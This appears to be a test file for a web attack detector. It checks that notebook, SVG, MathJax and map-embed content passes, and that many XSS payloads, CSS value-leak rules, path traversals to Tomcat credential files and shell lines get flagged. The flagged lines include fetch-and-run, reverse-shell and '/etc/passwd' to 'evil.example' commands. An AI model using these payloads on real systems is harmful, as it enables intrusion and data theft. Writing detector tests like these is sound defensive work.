  const styling = '<style>\n@import url(\'http://fonts.googleapis.com/css?family=Source+Code+Pro\');\n@import url(\'http://fonts.googleapis.com/css?family=Vollkorn\');\n    div.cell { width: 1000px; }\n</style>\n<script>\n    MathJax.Hub.Config({\n                        TeX: {\n                           extensions: ["AMSmath.js"]\n                           },\n                tex2jax: {\n                    inlineMath: [ [\'$\',\'$\'], ["\\\\(","\\\\)"] ],\n                    displayMath: [ [\'$$\',\'$$\'], ["\\\\[","\\\\]"] ]\n                },\n                displayAlign: \'center\', // Change this to \'center\' to center equations.\n                "HTML-CSS": { scale:100, availableFonts: [], preferredFont:null, webFont: "TeX", styles: {\'.MathJax_Display\': {"margin": 4}} }\n        });\n</script>\n'
  t.same(json({ cells: [{ cell_type: 'code', source: 'css_styling()', outputs: [{ data: { 'text/html': styling } }] }] }), [], "a notebook's styling output")
  t.same(q('<script type="text/x-mathjax-config">MathJax.Hub.Config({ tex2jax: { inlineMath: [["$","$"]] } });</script>'), [], "MathJax's own configuration block")
  for (const v of [
    '<script>MathJax.Hub.Config({ a: alert(1) })</script>', '<script>MathJax.Hub.Config({ extensions: ["https://evil.example/x.js"] })</script>',
    '<script>MathJax.Hub.Config({ TeX: { Macros: { x: "\\\\href{javascript:alert(1)}{x}" } } })</script>', '<script>MathJax.Hub.Config({ a: 1 }); alert(1)</script>',
    '<script>MathJax.Hub.Config({ a: 1 })</script><script>alert(1)</script>', '<script>MathJax.Hub.Config({ a: `${alert(1)}` })</script>',
    '<script>MathJax.Hub.Config({ a: "</script><script>alert(1)//" })</script>', '<script>MathJax.Hub.Config({ AuthorInit: () => 1 })</script>',
    '<script>MathJax.Hub.Config({ a: location.hash.slice(1) })</script>', '<script src="https://evil.example/x.js">MathJax.Hub.Config({ a: 1 })</script>',
    '<style>@import url("https://evil.example/x.css");</style>', '<style>@import url("https://fonts.googleapis.com.evil.example/css?family=x");</style>',
    '<style>@import url("//fonts.googleapis.com/css?family=x") ; body{background:url(javascript:alert(1))}</style>',
  ]) t.ok(q(v).includes('xss'), v)
  t.same(q('<style>@import url("https://fonts.googleapis.com/css2?family=Inter:wght@400;700&display=swap");</style>'), [], 'Google Fonts imported')
  // a file whose name begins with `apache` is no Apache directory
  t.same(json({ body: '## Step 2: Use Cases\n\n* Use Cases\n  * [Store Apache Log into Amazon S3](../how-to-guides/apache-to-s3.md)\n  * [Data Collection to MongoDB](../how-to-guides/apache-to-mongodb.md)\n' }), [], "Fluentd's guides")
  for (const v of ['../../apache/logs/access.log', '../../../apache2/apache2.conf', '..\\..\\apache-tomcat-9.0.65\\conf\\tomcat-users.xml', '../apache-activemq/conf/x', '../../../apache', '..%2f..%2fapache%2flogs%2ferror.log']) t.ok(q(v, 'file').includes('path_traversal'), v)
  // a notebook's shell escape looping over plain words, its body a command line
  const notebook = (line: string) => json({ cells: [{ cell_type: 'code', source: line }, { cell_type: 'markdown', source: '# Data' }], metadata: {}, nbformat: 4, nbformat_minor: 5 })
  t.same(notebook('!for i in *.tar.gz; do echo working on $i; tar xvzf $i -C directory/ ; done'), [], 'a loop extracting archives')
  for (const line of ['!for i in x; do curl http://evil.example/x.sh | sh; done', '!for i in $(curl http://evil.example/x); do echo $i; done', '!for i in x; do echo; done; id']) t.ok(notebook(line).includes('rce'), line)
})

t.test("forty-second round, its second review's payloads: comments decoding made, a cut string's open tag, an embed's unpaired quotes", async (t) => {
  // entities a browser does not decode there made a tag's end before a comment: the comment is dropped only where the text as sent has it
  readAsQueryAndJson(t, [
    '<svg viewBox="0 0 24 24"><path d="M0 0h24v24H0z"/><img src=x &gt; <!-- &gt; onerror=self.alert(name) --></svg>',
    '<svg viewBox="0 0 24 24"><path d="M0 0h24v24H0z"/><img src=x &#62; <!-- &#x3e; onerror=self.alert(name) --></svg>',
    '<svg viewBox="0 0 24 24" &gt; <!-- &gt; onload=document.body.id=1 --><path d="M0 0h24v24H0z"/></svg>',
    '<svg viewBox="0 0 24 24"><path d="M1"/><img src=x <&#47;g&gt; <!-- &gt; onerror=self.alert(name) --></svg>',
  ])
  // Graphviz's entities inside its comments and titles are still the drawing's, in a query, a form or a JSON body
  const graph = '<svg width="107pt" height="229pt"\n viewBox="0.00 0.00 107.00 229.25" xmlns="http://www.w3.org/2000/svg">\n<g id="graph0" class="graph">\n<!-- m -->\n<g id="node1" class="node">\n<title>m</title>\n<ellipse fill="white" stroke="black" cx="54" cy="-203.25" rx="27" ry="18"/>\n</g>\n<!-- m&#45;&gt;sd -->\n<g id="edge1" class="edge">\n<title>m&#45;&gt;sd</title>\n<path fill="none" stroke="black" d="M47.46,-185.3C44.45,-177.48"/>\n</g>\n</g>\n</svg>\n'
  t.same(q(graph, 'img'), [], 'in a query')
  t.same(json({ 'image/svg+xml': graph }), [], 'in a JSON body')
  t.same(detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/x-www-form-urlencoded' }, body: Buffer.from(`img=${encodeURIComponent(graph).replace(/%20/g, '+')}`) }), [], 'in a form')
  // a body's last string cut inside a tag: read as text, not completed (the completion would drop the tag)
  const filler = 'A'.repeat(16_384)
  const bodyText = JSON.stringify({ doc: `{"x":"${filler}` })
  const cut = bodyText.slice(0, 16_384 - 40) + '\\u003cimg src=x onerror=alert(1)' + 'B'.repeat(100)
  t.ok(detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/json' }, body: Buffer.from(cut) }).includes('xss'), 'an open tag where the cut falls')
  // an embed's source opened by one quote and closed by another goes on, for a browser, to the next one
  t.ok(json({ readme: '### Title\n\ntext\n\n<iframe src="https://127.0.0.1/b\' style={{ color: \'red\' }} title=" onload=self.alert(name) x"></iframe>\n' }).includes('xss'), 'unpaired quotes')
  t.ok(json({ readme: '### Title\n\ntext\n\n<iframe src="https://127.0.0.1/b\' title=" onload=self.alert(name) x"></iframe>\n' }).includes('xss'), 'unpaired quotes, no style')
})

t.test("forty-second round, from the sixty-eighth part: a call statement through a subscript is a program's line", async (t) => {
  const ws = "  if (\n    this[kPerMessageDeflate]._maxPayload < 1 ||\n    this[kTotalLength] <= this[kPerMessageDeflate]._maxPayload\n  ) {\n    this[kBuffers].push(chunk);\n    return;\n  }\n\n  this[kError] = new RangeError('Max payload size exceeded');\n  this[kError].code = 'WS_ERR_UNSUPPORTED_MESSAGE_LENGTH';\n  this[kError][kStatusCode] = 1009;\n  this.removeListener('data', inflateOnData);\n"
  t.same(json({ code: ws }), [], "ws's inflate handler")
  t.ok(json({ code: "x');\nthis['al'+'ert'](1);\nthis[a].b(c);\nthis[d].e(f);" }).includes('xss'), 'a sink spelt in pieces among such lines')
})

t.test("forty-second round, its third review's payloads: each relaxation's bypass, read again", async (t) => {
  // a line comment in MathJax's configuration ends at CR, U+2028 and U+2029 too
  for (const end of ['\r', '\u2028', '\u2029']) {
    const v = `<script>MathJax.Hub.Config({a: 1, //x${end}b: alert(1)\n});</script>`
    const name = `U+${end.charCodeAt(0).toString(16).padStart(4, '0')}`
    t.ok(q(v).includes('xss'), name)
    t.ok(json({ html: `<form id=MathJax><input name=Hub></form>${v}` }).includes('xss'), `${name} with a form for MathJax`)
  }
  // a style element that loads anything else beside Google Fonts keeps its import read
  t.ok(q("<style>@import url('https://fonts.googleapis.com/css?family=Source+Code+Pro');\ninput[name=csrf][value^=s3]{background:url(http://127.0.0.1:8999/leak?prefix=s3)}</style>").includes('xss'), 'an import beside a rule sending values out')
  t.same(q("<style>@import url('https://fonts.googleapis.com/css?family=Source+Code+Pro');\ndiv.cell { width: 1000px; }</style>"), [], 'an import beside plain rules')
  // Apache's installations by their milestones and binary tarballs
  for (const v of ['../apache-tomcat-10.1.0-M17/conf/tomcat-users.xml', '../apache-tomcat-9.0.0.M26/conf/server.xml', '../apache-hive-3.1.3-bin/conf/hive-site.xml', '..%2fapache-tomcat-9.0.0.M26%2fconf%2ftomcat-users.xml']) t.ok(q(v, 'file').includes('path_traversal'), v)
  // a loop is a notebook's escape's own, not a document's field's or a command field's; one loop, ending the value
  t.ok(json({ script: 'for i in a; do echo $i; id; done' }).includes('rce'), 'a command field')
  const many = Object.fromEntries(Array.from({ length: 14 }, (_, i) => [`k${i}`, `value ${i}`]))
  t.ok(json({ ...many, setup: 'for i in a; do echo $i; cat /etc/passwd; done' }).includes('rce'), "a document's field")
  const notebook = (line: string) => json({ cells: [{ cell_type: 'markdown', source: '# x' }, { cell_type: 'code', source: line }], metadata: {}, nbformat: 4, nbformat_minor: 5 })
  t.ok(notebook('!for i in a; do echo x; done; id > /tmp/p; for j in b; do echo y; done').includes('rce'), 'two loops around a command')
  // entities a browser does not decode inside a tag: a handler after them is the tag's own
  readAsQueryAndJson(t, ['<img src=x &gt; onerror=self.alert(name)>', '<img src=x &gt; <!-- &gt; onerror=self.alert(name) -->'])
  // past 64 SVG openings the value as sent and the decoded one cannot be paired: no comment is dropped
  const padded = 'You can use the icon markup `<svg viewBox="0 0 1 1"><path d="M0 0"/></svg>` in your page, as it is shown below for the example we have here.\n<svg viewBox="0 0 24 24"><path d="M0 0h24v24H0z"/><img src=x &gt; <!-- &gt; onerror=self.alert(name) --></svg>' + '<svgx></svgx>'.repeat(66)
  t.ok(q(padded).includes('xss'), 'many openings')
  t.ok(json({ v: padded }).includes('xss'), 'many openings (JSON)')
})

t.test("forty-second round, from the seventieth part: Matplotlib's saved drawings — a style sheet of plain declarations, glyphs placed by their ids", async (t) => {
  const figure = '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE svg  PUBLIC \'-//W3C//DTD SVG 1.1//EN\'  \'http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\'><svg width="557.15pt" height="168.93pt" version="1.1" viewBox="0 0 557.15 168.93" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><defs><style type="text/css">*{stroke-linecap:butt;stroke-linejoin:round;}</style><path id="DejaVuSans-48" d="m4 0h10v10z"/></defs><path d="m0 168.93h557.15v-168.93h-557.15z" fill="#ffffff"/><path d="m468.6 124.12h11.817l-5.9086 8.5221z" clip-path="url(#p0ad25e2362)" fill="#778899"/><g fill="#000000"><use xlink:href="#DejaVuSans-48"/><use x="97.412109" xlink:href="#DejaVuSans-48"/><use transform="translate(63.477 -16.406) scale(.7)" xlink:href="#DejaVuSans-48"/></g><defs><clipPath id="p0ad25e2362"><rect width="459.06" height="147.73" x="86.353" y="7.2"/></clipPath></defs></svg>'
  t.same(json({ cells: [{ outputs: [{ data: { 'image/svg+xml': figure } }] }] }), [], "a notebook's saved figure")
  for (const inner of [
    '<style>*{background:url(//evil.example/x)}</style>', '<style>@import "//evil.example/x.css";</style>', '<style>*{x:expression(alert(1))}</style>',
    '<style></style><script>alert(1)</script>', '<use x="1" xlink:href="data:image/svg+xml,x"/>', '<use x="1" onload="alert(1)" xlink:href="#a"/>',
    '<use transform="x" xlink:href="#a" onmouseover=alert(1) />', '<use x="1" xlink:href="#a"/><a xlink:href="javascript:alert(1)"><rect width="9"/></a>',
    '<style>a{}</style><img src=x onerror=alert(1)>', '<style type="text/css">*{color:red}\\3c/style\\3e</style><image href=x onerror=alert(1)/>',
  ]) t.ok(q(`<svg viewBox="0 0 1 1">${inner}<path d="M1"/></svg>`).includes('xss'), inner)
})

t.test("forty-second round, its fourth review's payloads: an element's text inside an attribute's value", async (t) => {
  // a style or a script block written inside a quoted value is that tag's attributes to a browser, handlers among them
  readAsQueryAndJson(t, [
    '<svg viewBox="0 0 24 24" x="<style>" a=1 b=2 tabindex=1 autofocus onfocus=top.confirm(1) y="</style>"><path d="M0 0h24v24H0z"/></svg>',
    '<svg viewBox="0 0 24 24"><path d="M0 0h24v24H0z" x="<style>" a=1 b=2 tabindex=1 autofocus onfocus=top.__leak=1 y="</style>"/></svg>',
    '<img src=x x="<script type="application/json">" a=1 b=2 onerror=top.confirm(1) y="</script>">',
    '<img src=x x="<script type="application/json">{"a":"" a=1 b=2 onerror=top.confirm(1) y=""}</script>">',
    '<svg viewBox="0 0 24 24" x="<script>MathJax.Hub.Config({a: "" a=1 b=2 tabindex=1 autofocus onfocus=top.confirm(1) y=""})</script>"><path d="M0 0h24v24H0z"/></svg>',
  ])
  // where a tag has ended, a data block, a drawing's style and MathJax's setting are still set aside
  t.same(q('<p>Data</p><script type="application/ld+json">{"@context":"https://schema.org","@type":"Person","name":"x"}</script>'), [], 'a data block after a paragraph')
  t.same(q('<svg viewBox="0 0 1 1"><defs><style type="text/css">*{stroke-linecap:butt;}</style></defs><path d="M1"/></svg>'), [], "a drawing's style")
})

t.test('forty-second round: a style sheet reading an input\'s value out through URLs on another host', async (t) => {
  for (const v of ['<style>input[name=csrf][value^=s3]{background:url(http://127.0.0.1:8999/leak?prefix=s3)}</style>', '<style>input[value$="a"] { background-image: url(\'//evil.example/a\') }</style>', "<style>@import url('https://fonts.googleapis.com/css?family=Source+Code+Pro');\ninput[name=csrf][value^=s3]{background:url(http://127.0.0.1:8999/leak?prefix=s3)}</style>"]) t.ok(q(v).includes('xss'), v)
  for (const v of ['<style>input[value^=a]{background:url(/local.png)}</style>', '<style>.x{background:url(https://cdn.example/x.png)}</style>', '<style>input[value=""]{color:gray}</style>']) t.same(q(v), [], v)
})

t.test("the forty-second round's readings are bounded: thousands of a macro's repetitions, SVG comments, tags after entities", async (t) => {
  // (read-through) a Rust macro's declarations and the shell's bindings are read once a value, not once a repetition
  t.same(json({ v: `macro_rules! m {\n${'$($a:tt)* '.repeat(1600)}\n}` }), [], 'declared, unbound: renamed')
  t.ok(json({ v: `macro_rules! m {\n($($a:tt)*) => {\na=id\n${'$($a)* '.repeat(1600)}\n};\n}` }).includes('rce'), 'bound by the shell: read, however many')
  // a query's value as the application has it: its `+` a blank, then percent-decoded, only where the text as sent is read
  const sent = 'q=%3Cimg+src%3Dx+%26gt%3B+onerror%3Dself.alert(name)%3E'
  t.ok(detector.detect({ ...base, query: sent }).includes('xss'), '`+` and escapes in a query')
  t.ok(detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/x-www-form-urlencoded' }, body: Buffer.from(sent) }).includes('xss'), 'in a form')
})

t.test("forty-third round: a JSON text sent as a field read as the application parses it; a form's cut value and notebook outputs at the cut; a map's frame", async (t) => {
  const form = (body: string) => detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/x-www-form-urlencoded' }, body: Buffer.from(body) })
  const styling = '<style>\ndiv.cell { width: 1000px; }\n</style>\n<script>\n    MathJax.Hub.Config({\n        TeX: { extensions: ["AMSmath.js"] },\n        tex2jax: { inlineMath: [ [\'$\',\'$\'] ] },\n        displayAlign: \'center\'\n    });\n</script>\n'
  const lines = (text: string) => text.split(/(?<=\n)/)
  const notebook = (toc: string, output: string, code = 'x = 1\n') => JSON.stringify({ cells: [
    { cell_type: 'markdown', metadata: {}, source: [toc] },
    { cell_type: 'code', metadata: {}, outputs: [{ data: { 'text/html': lines(output) }, output_type: 'display_data' }], source: ['from utils import css_styling\n', 'css_styling()'] },
    { cell_type: 'code', metadata: {}, outputs: [], source: lines(code) },
  ] }, null, 1)
  // a table of contents with `&nbsp;`: decoding the whole text made markup, not the output's strings
  const toc = '<div class="toc"><ul><li><span><a href="#Reference"><span class="toc-item-num">2&nbsp;&nbsp;</span>Reference</a></span></li></ul></div>'
  const nb = notebook(toc, styling)
  t.same(json(JSON.parse(nb)), [], 'the notebook as a body')
  t.same(json({ id: 7, document: nb }), [], 'as a field of a JSON body')
  t.same(form(`id=7&payload=${encodeURIComponent(nb)}&submit=Send`), [], "as a form's field")
  // each string is still decoded on its own: markup an entity or an escape made inside one is judged as made
  for (const inner of ['&lt;img src=x onerror=alert(1)&gt;', '&lt;script&gt;MathJax.Hub.Config({ a: 1 })&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;', '<img src=x onerror=alert(1)>', '\\u003cimg src=x onerror=alert(1)>']) {
    const doc = `{"toc": "${toc.replace(/"/g, '\\"')}", "v": "${inner}"}`
    t.ok(json({ id: 7, document: doc }).includes('xss'), `${inner} inside a JSON text sent as a field`)
    t.ok(form(`payload=${encodeURIComponent(doc)}`).includes('xss'), `${inner} inside a JSON text sent as a form's field`)
  }
  t.ok(json({ id: 7, document: notebook(toc, '<script>\nMathJax.Hub.Config({ a: 1 });\nalert(1)\n</script>\n') }).includes('xss'), 'a script beside the setting')

  // past 16 KiB, a form's last value cut inside a percent escape (`…%2`) is still the JSON text the cut ended
  const long = notebook(toc, styling, 'def f(a, b):\n    return a, b\n'.repeat(700))
  const sent = `id=7&payload=${encodeURIComponent(long)}`
  const at = sent.indexOf('%2C', 15000)
  t.ok(at > 0 && at < 16300, 'an escape near the cut')
  const padded = `pad=${'a'.repeat(16384 - at - 2 - 'pad=&'.length)}&${sent}`
  t.equal(padded.slice(16382, 16385), '%2C', 'the cut splits it')
  t.same(form(padded), [], 'read as JSON still')
  t.ok(form(`${padded.slice(0, 16000)}%3Cimg+src%3Dx+onerror%3Dalert(1)%3E${padded.slice(16000)}`).includes('xss'), 'markup before the cut still read')

  // a notebook's styling output the cut ended inside MathJax's setting (the rest unseen, as anything past the cut)
  const cutInSetting = (setting: string) => {
    const body = `payload=${encodeURIComponent(notebook(toc, `<style>\n${'div.c { width: 1px; }\n'.repeat(100)}</style>\n<script>\n${setting}`))}`
    // the cut 250 characters (as sent) into the setting
    const pad = 16384 - (body.indexOf('MathJax.Hub.Config(') + 250) - 'pad=&'.length
    t.ok(pad > 0, 'the setting starts before the cut')
    return form(`pad=${'a'.repeat(pad)}&${body}`)
  }
  t.same(cutInSetting(`    MathJax.Hub.Config({\n        TeX: { extensions: ["AMSmath.js"] },\n${'        tex2jax: { inlineMath: [ [\'$\',\'$\'] ] },\n'.repeat(200)}    });\n</script>\n`), [], 'cut inside the setting')
  t.ok(cutInSetting(`    MathJax.Hub.Config({\n        a: alert(1),\n${'        tex2jax: { inlineMath: [ [\'$\',\'$\'] ] },\n'.repeat(200)}    });\n</script>\n`).includes('xss'), 'a call before the cut')
  t.ok(form(`payload=${encodeURIComponent(notebook(toc, '<script>\nMathJax.Hub.Config({\n TeX: {\n'))}`).includes('xss'), 'an unfinished setting in a body not cut')

  // Google Maps' embedded map as its Share dialog gives it, its place name escaped in the URL
  const map = '<iframe src="https://www.google.com/maps/embed?pb=!1m14!1m8!1m3!1d1512.17!2d-71.26!3d42.29!3m2!1i1024!2i768!4f13.1!3m3!1m2!1s0x0%3A0xa038229eeed8c35b!2sOlin%20College%20of%20Engineering!5e1!3m2!1sen!2sus!4v1594232142090!5m2!1sen!2sus" width="600" height="450" frameborder="0" style="border:0;" allowfullscreen="" aria-hidden="false" tabindex="0"></iframe>'
  t.same(json({ cells: [{ cell_type: 'code', source: ['%%html\n', map] }] }), [], "a notebook's map")
  t.same(q(`<p>Find us:</p>\n${map}`), [], 'in a query')
  for (const v of [
    map.replace('2sOlin%20College', '2s%22%3E%3Cscript%3Ealert%281%29%3C%2Fscript%3E'), map.replace('tabindex="0"', 'tabindex="0" autofocus onfocus=alert(1)'),
    map.replace('style="border:0;"', 'style="position:fixed;top:0;left:0;width:100%;height:100%;opacity:0"'), map.replace('https://www.google.com/maps/embed', 'https://evil.example/maps/embed'),
    map.replace('></iframe>', '><script>alert(1)</script></iframe>'), map.replace('src="https', 'srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;" src="https'),
  ]) {
    t.ok(json({ page: v }).includes('xss'), v.slice(0, 120))
    t.ok(q(v).includes('xss'), `${v.slice(0, 120)} (query)`)
  }

  // Matplotlib's ticks: a glyph placed with SVG's presentation attributes
  t.same(q('<svg viewBox="0 0 1 1"><defs><path id="m1" d="m0 0v3.5" stroke="#000000" stroke-width=".8"/></defs><use x="90.02" y="279" stroke="#000000" stroke-width=".8" xlink:href="#m1"/></svg>'), [], 'a tick')
  for (const use of ['<use stroke-width=".8" onload="alert(1)" xlink:href="#m1"/>', '<use stroke-dasharray="1,2" xlink:href="#m1" onmouseover=alert(1) />', '<use stroke-width="url(javascript:alert(1))" xlink:href="#m1"/>']) t.ok(q(`<svg viewBox="0 0 1 1">${use}</svg>`).includes('xss'), use)
})

t.test("forty-third round, from the seventy-first and seventy-second parts: LLM notebooks' keyword arguments, cell magics, Markdown comments, Go's loop header, an SVG by its size", async (t) => {
  const cell = (source: string) => json({ cells: [{ cell_type: 'code', metadata: {}, outputs: [], source: source.split(/(?<=\n)/) }] })
  // Python's keyword argument named for a sink is no sink assigned (a model's prompt handed to it)
  t.same(cell('prompt = """\n    Sort following animals from biggest to smallest:\n    fish, elephant, dog\n"""\n\nresponse = client.models.generate_content(\n    model=MODEL_ID,\n    contents=prompt,\n)\n\nMarkdown(response.text)'), [], 'contents=prompt,')
  t.same(cell('interaction = client.interactions.create(\n    model=MODEL_ID,\n    input=prompt\n)\n\nMarkdown(interaction.text)'), [], 'input=prompt⏎)')
  t.same(q("r = c.generate_content(model=m, contents=prompt, config={'a': 'b'})"), [], 'on one line')
  for (const v of ['a=prompt,a(1)', 'x=alert;x`1`', '{onerror=alert}throw 1', 'window.onerror=alert;throw 1', 'a=eval;b=alert;a(b+"(1)")', "';a=prompt,a()//", "window[Symbol['split']]=alert)", 'x(onerror=alert)', '"-alert;a=alert,a(document.domain)//']) t.ok(q(v).includes('xss'), v)
  // Python's `from … import …` is a program's line (the sink-only shapes are not read in a program)
  t.same(q('from pydantic import BaseModel, Field\n\nclass Topic(BaseModel):\n    name: str = Field(description="The name")\n\nclass Person(BaseModel):\n    first_name: str\n\nresponse = client.models.generate_content(model=model_id, contents=prompt, config={"response_schema": Person})\n'), [], 'a pydantic cell')
  // a cell run by bash through its magic is a shell script, as one with its interpreter line
  const bash = '%%bash\n. vars.sh\n\nfile_uri=$(jq -r ".file.uri" file_info.json)\n\ncurl "${file_uri}?key=${GEMINI_API_KEY}" 2>/dev/null'
  t.same(cell(bash), [], '%%bash')
  t.same(cell(`#!/bin/bash\n${bash.slice(7)}`), [], 'the same with its interpreter line')
  t.ok(q('%%bash --bg\n. vars.sh\nx=$(id)\ncurl "http://evil.example/?${x}"').includes('rce'), 'a magic with options is no interpreter line')
  // a Markdown page's comment on lines of its own is no command line for the shell
  const page = (comment: string) => json({ body: `## Print Issues\n\nWe have an abstraction for printing found issues.\n\n${comment}\n\n{{< filetree/container >}}\n  {{< filetree/file name="json.go" >}}\n{{< /filetree/container >}}\n` })
  t.same(page('<!--\n$ tree -L 1 ./pkg/printers/ | grep -v test\n-->'), [], 'a comment to the editors')
  for (const c of ['<!-- x -->\n$ tree -L 1 ./pkg/printers/ | grep -v test', '<!--\n$ tree | sh -->x\ncat /etc/passwd | nc evil.example 80']) t.ok(page(c).includes('rce'), c)
  t.ok(page('<!--\n--><img src=x onerror=alert(1)>\n-->').includes('xss'), 'the page\'s other readings still see the comment')
  // Go's loop header: a condition of one name, a step that assigns again
  const frames = '\tresult := make([]Frame, 0, n)\n\tframes := runtime.CallersFrames(pcs)\n\tfor f, more := frames.Next(); more; f, more = frames.Next() {\n\t\tresult = append(result, Frame{\n\t\t\tFunction: sanitize(f.Function),\n\t\t\tFile:     f.File,\n\t\t})\n\t}\n\treturn result\n}\n'
  t.same(json({ snippet: frames }), [], "fx's stack walk")
  t.ok(json({ snippet: frames.replace('more; f, more = frames.Next()', 'more; id; sh -c x') }).includes('rce'), 'a command for the step')
  // an inline SVG by its size alone (HTML's), when nothing in it can run
  t.same(json({ source: 'svg_source = """\n<svg width="400" height="110">\n  <rect width="300" height="100" style="fill:#E0E0E0;" /> \n</svg>\n"""\nsvg = SVG(svg_source)\nsvg' }), [], 'a notebook\'s SVG')
  for (const v of ['<svg width="400" onload="alert(1)"><rect width="3"/></svg>', '<svg width="400"><rect width="3"/><script>alert(1)</script></svg>', '<svg width="400"><a href="javascript:alert(1)"><rect width="3"/></a></svg>', '<svg height="1"><rect width="3"/><animate onbegin=alert(1) attributeName=x dur=1s>']) t.ok(q(v).includes('xss'), v)
})

t.test("forty-third round's review: a JSON text read as the application has it only where no escape made its markup; the value the cut ended by its place; a frame decoded in its URL only; every string of a document", async (t) => {
  const form = (body: string) => detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/x-www-form-urlencoded' }, body: Buffer.from(body) })
  const asForm = (v: string) => encodeURIComponent(v).replace(/%20/g, '+')
  const everywhere = (v: string, name: string) => {
    t.ok(q(v).includes('xss'), `${name} (query)`)
    t.ok(form(`payload=${asForm(v)}`).includes('xss'), `${name} (form)`)
    t.ok(json({ page: v }).includes('xss'), `${name} (JSON)`)
  }
  // an escape the parse resolves into a quote: one string to a script shown the text as sent (Chromium ran it)
  everywhere(`{"x":"<form id=MathJax><input name=Hub></form><script>MathJax.Hub.Config({a:['\\u0027',alert(1),'\\u0027']})</script>"}`, "MathJax's setting around \\u0027")
  t.ok(q(`{"x":"<form id=MathJax><input name=Hub></form><script>MathJax.Hub.Config({a:['%u0027',alert(1),'%u0027']})</script>"}`).includes('xss'), '%u0027, which URLSearchParams leaves')
  // a handler, a style's leak split across strings, a string past 32 levels or past the 512th: the text is read whole as before
  everywhere('{"a":"<img src=x title=","k":" onerror=location=top.name>","z":"\\u0022"}', 'a handler across strings')
  everywhere('["<input name=t value=abc><style>x{","}input[value^=a]{background:url(//127.0.0.1:9/leak?a)}</style>","\\u0022"]', 'a leak across strings')
  let deep = '"<img src=x onerror=alert(1)>"'
  for (let i = 0; i < 33; i++) deep = `[${deep}]`
  everywhere(`{"z":"\\u0022","x":${deep}}`, 'a string past 32 levels')
  t.ok(json(JSON.parse(`{"x":${deep}}`)).includes('xss'), 'and in a JSON body, every level a parse allows')
  const wide = [...Array.from({ length: 512 }, (_, i) => `a${i}`), '<img src=x onerror=alert(1)>']
  everywhere(`${JSON.stringify(wide).slice(0, -1)},"\\u0022"]`, 'the 513th string')
  t.ok(json(wide).includes('xss'), 'and in a JSON body')
  const wider = new AttackDetector({ maxInspectBytes: 1_000_000 })
  const many = [...Array.from({ length: 5000 }, (_, i) => `a${i}`), '<img src=x onerror=alert(1)>']
  t.ok(wider.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/json' }, body: Buffer.from(JSON.stringify(many)) }).includes('xss'), 'past the 4,096th string, read whole')
  // a complete string of the same text is no value the cut ended (the cut's MathJax setting, closed by another string's script)
  const A = '<form id=MathJax><input name=Hub></form><script>MathJax.Hub.Config({x:['
  const head = `{"a":"${A}","+":",top.location=top.name]});//","c":"<script>MathJax.Hub.Config({y:1})</script>","pad":"`
  const tail = `","z":"${A}`
  const pad = 16384 - `payload=${asForm(head + tail)}`.length
  const cut = `payload=${asForm(`${head}${'x'.repeat(pad)}${tail}]})</script>"}`)}`
  t.equal(cut.slice(0, 16384).endsWith(asForm(A)), true, 'the cut right after the copy')
  t.ok(form(cut).includes('xss'), 'a copy at the cut')
  // a frame set aside as sent only where decoding changed its URL alone (a style decoded into a page-wide overlay)
  const frame = '<iframe src="https://www.google.com/maps/embed?pb=!1m2!2sOlin%20College" style="width:100vw%3Bposition%3Afixed%3Binset%3A0;height:100vh%3Bopacity%3A0%3Bz-index%3A99"></iframe>'
  everywhere(frame + decodeURIComponent(frame), 'a frame and its decoded copy')
})

t.test("forty-third round's second review: a sink assigned and used again however it is, Markdown comments and Go's header narrowed", async (t) => {
  // a sink assigned to a name is read wherever the name is used again, thrown to, a handler or a conversion (Chromium ran each)
  for (const v of ["';x=alert;setTimeout(x)//", "';a=alert,[1].find(a)//", "';a=alert;Promise.resolve(1).then(a)//", "';a=confirm;[1].some(a)//", "';a=alert;a.call(null,1)//", "';a=prompt;a.bind(null,1)()//", "';a=alert;a?.(1)//", "';a=alert;(a)(1)//", "';a=alert;a/**/(1)//", "';a=alert;top['a'](1)//", "';a=alert;b=a;b(1)//", "';toString=alert;window+''//", "';valueOf=alert;window+1//", "';var {x=alert}={};[1].map(x)//", `';a=alert;/*${'x'.repeat(100)}*/a(1)//`, "';[1].map(x=alert)//", "';[].map.call([1],x=alert)//", "';[1].find(x=confirm)//", "';Reflect.apply(a=alert,null,[1])//", "';[name].map(a=eval)//", "';a=eval;a.call(null,name)//", "';a=eval;[name].map(a)//", "';[1].map(\n  x=eval\n)//"]) t.ok(q(v).includes('xss'), v)
  // Python's keyword argument on a line of its own handed `prompt`, even where the cell passes it twice
  t.same(json({ source: 'if "-pro" not in MODEL_ID:\n  interaction = client.interactions.create(\n    model=MODEL_ID,\n    input=prompt,\n  )\nelse:\n  interaction = client.interactions.create(\n    model=MODEL_ID,\n    input=prompt,\n    config=config,\n  )\n\nMarkdown(interaction.text)' }), [], 'input=prompt, twice')
  // a Markdown comment: lines of its own only, and a download run, a reverse shell inside it still read
  const md = (c: string) => json({ body: `# Notes\n\n${c}\n\nSome text here for the page.` })
  for (const c of ['<!--\ncurl -s http://127.0.0.1:18778/x|sh\n-->', '<!--;curl -s http://127.0.0.1:18778/x|sh #-->', '<!--\nbash -i >& /dev/tcp/127.0.0.1/9 0>&1\n-->', '<!-- ; id ; -->']) t.ok(md(c).includes('rce'), c)
  // Go's loop header after a line continued by `\`: `for` is an argument there, and what follows `;` runs (bash, dash, zsh ran `id`)
  const go = (h: string) => json({ snippet: `\techo building the walker \\\n${h}\n\t\tfoo(a)\n\t}\n\treturn r\n}\n` })
  t.ok(go('\tfor i := 0; id; i = 1 {').includes('rce'), 'a one-name condition')
  t.ok(go('\tfor i := 0; id < .; i++ {').includes('rce'), 'a comparison')
})

t.test("forty-third round's third review: eval, alert and confirm assigned read as before; prompt's argument inside a list only; the cut's value from the text; Markdown comments that fetch", async (t) => {
